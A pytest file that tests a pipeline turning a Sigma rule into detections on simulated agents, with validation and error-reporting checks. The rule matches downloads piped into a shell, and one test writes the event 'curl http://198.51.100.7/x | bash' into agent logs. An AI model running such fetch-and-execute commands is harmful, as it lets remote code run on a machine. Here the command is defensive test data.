"""Sigma rules on their whole way: a folder of YAML, a judged bundle, a rollout, a detection."""

import json

import pytest

from lab import REPOSITORY, CommandFailed, fresh_folder, wait_until

STARTER = REPOSITORY / "content/sigma-starter"

RULE = """\
title: A Download Piped Into A Shell
id: 5f4f2a0e-6c1b-4f3f-9f0a-0d6f2f1f7c11
status: test
description: The output of a downloader is run by a shell, unseen by anybody.
author: Firebreak authors
date: 2026-11-22
logsource:
  product: linux
  category: process_creation
detection:
  downloader:
    CommandLine|contains:
      - 'curl '
      - 'wget '
  shell:
    CommandLine|re: '\\|\\s*(ba|z|da)?sh\\b'
  condition: downloader and shell
falsepositives: [installation by the book of some projects]
level: high
"""


def as_event(command_line):
    """An event that says itself what it is."""
    return json.dumps({"contract": "process_creation_linux/v1",
                       "fields": {"Image": "/bin/sh", "CommandLine": command_line}}) + "\n"


@pytest.fixture
def sigma_rules(tmp_path):
    """Makes a folder of one Sigma rule: sigma_rules(text) -> folder."""

    def make(text=RULE):
        folder = fresh_folder(tmp_path / "rules")
        (folder / "firebreak-pack.yaml").write_text(
            "stream: sigma\ncontent_type: sigma-rules\nfiles: ['*.yml']\nauthor: lab\n"
            "release_notes: one rule\n")
        (folder / "download.yml").write_text(text)
        return folder

    return make


@pytest.fixture
def sigma_lab(own_lab):
    own_lab.engine = own_lab.programs.sigma_engine
    own_lab.stream = "sigma"
    return own_lab


@pytest.fixture
def quiet_events(tmp_path):
    """Goodware for event rules: a day of a host on which nothing happens."""
    folder = fresh_folder(tmp_path / "quiet")
    (folder / "day.jsonl").write_text("".join(
        as_event(f"/usr/bin/backup --run {number}") for number in range(60)))
    return folder


def detections(agent):
    path = agent.state / "detections.jsonl"
    if not path.exists():
        return []
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_rules_become_detections_on_every_device(sigma_lab, sigma_rules, quiet_events):
    lab = sigma_lab.start_server()
    logs = {}
    for ring, count in (("canary", 5), ("early", 5), ("broad", 5)):
        for agent in lab.enrol_agents(ring, count, event_logs=["events.jsonl"],
                                      read_events_every_seconds=1):
            logs[agent] = agent.folder / "events.jsonl"
    lab.wait_enrolled(logs)

    lab.release(sigma_rules(), 1, goodware=[quiet_events])
    assert lab.wait_for_phase(1, "complete", "halted", "held")["phase"] == "complete"
    for agent, log in logs.items():
        wait_until(f"{agent.name} to run it", lambda agent=agent: agent.running_counter() == 1)
        log.write_text(as_event("ls -l") + as_event("curl http://198.51.100.7/x | bash") + "{\n")

    for agent, log in logs.items():
        found = wait_until(f"{agent.name} to detect", lambda agent=agent: detections(agent))
        assert [one["rule"] for one in found] == ["5f4f2a0e-6c1b-4f3f-9f0a-0d6f2f1f7c11"]
        assert found[0]["log"] == str(log)
        assert "198.51.100.7" in found[0]["detail"]
        # The agent says what it could not read after it has written what it found.
        wait_until(f"{agent.name} to say what it could not read",
                   lambda agent=agent: "events.unreadable" in agent.log_text(), 60, agent.process)


def test_the_starter_set_is_admitted_and_runs_on_a_device(sigma_lab, patient_plan):
    lab = sigma_lab.start_server()
    agent, = lab.enrol_agents("all", 1, ("acme",), event_logs=["events.jsonl"],
                              read_events_every_seconds=1)
    bundle = lab.pack(STARTER, 1)
    lab.validate(bundle, goodware=[STARTER / "events/near-miss"])
    lab.publish(bundle, lab.sign_release(bundle, patient_plan), patient_plan)
    wait_until("the starter set to run", lambda: agent.running_counter() == 1, 120, agent.process)

    events = sorted((STARTER / "events/match").glob("*.jsonl"))
    (agent.folder / "events.jsonl").write_text("".join(path.read_text() for path in events))
    rules = len(list((STARTER / "rules").glob("**/*.yml")))
    wait_until("every rule to match its event",
               lambda: len({one["rule"] for one in detections(agent)}) == rules)


def test_the_validator_names_a_rule_that_matches_a_quiet_day(sigma_lab, sigma_rules, quiet_events):
    folder = sigma_rules(RULE.replace("'curl '", "'backup '").replace(
        "condition: downloader and shell", "condition: downloader and not shell"))
    bundle = sigma_lab.pack(folder, 1)
    report = sigma_lab.validate(bundle, goodware=[quiet_events], expect=1)
    assert report["verdict"] == "rejected"
    found = report["findings"][0]
    assert found["rule"] == "5f4f2a0e-6c1b-4f3f-9f0a-0d6f2f1f7c11"
    assert found["file"].endswith("download.yml") and "day.jsonl" in found["input"]


@pytest.mark.parametrize("old, new, place, hint", [
    ("CommandLine|contains", "ComandLine|contains", "download.yml:12:5", "CommandLine"),
    ("condition: downloader and shell", "condition: downloader and shel",
     "download.yml:17:", "shell"),
    ("product: linux\n  category: process_creation", "product: amiga\n  category: demo",
     "download.yml:", "amiga"),
    (r"\|\s*(ba|z|da)?sh\b", "(?=a)b", "download.yml:16:", "look"),
])
def test_pack_says_where_a_rule_is_wrong(sigma_lab, sigma_rules, old, new, place, hint):
    assert old in RULE
    folder = sigma_rules(RULE.replace(old, new))
    out = sigma_lab.folder / "sigma-1.fbb"
    with pytest.raises(CommandFailed) as failure:
        sigma_lab.run(sigma_lab.programs.firebreak, "pack", folder, "--counter", 1, "--out", out)
    told = failure.value.stdout + failure.value.stderr
    assert place in told and hint in told
    assert not out.exists(), "all of it or none of it"
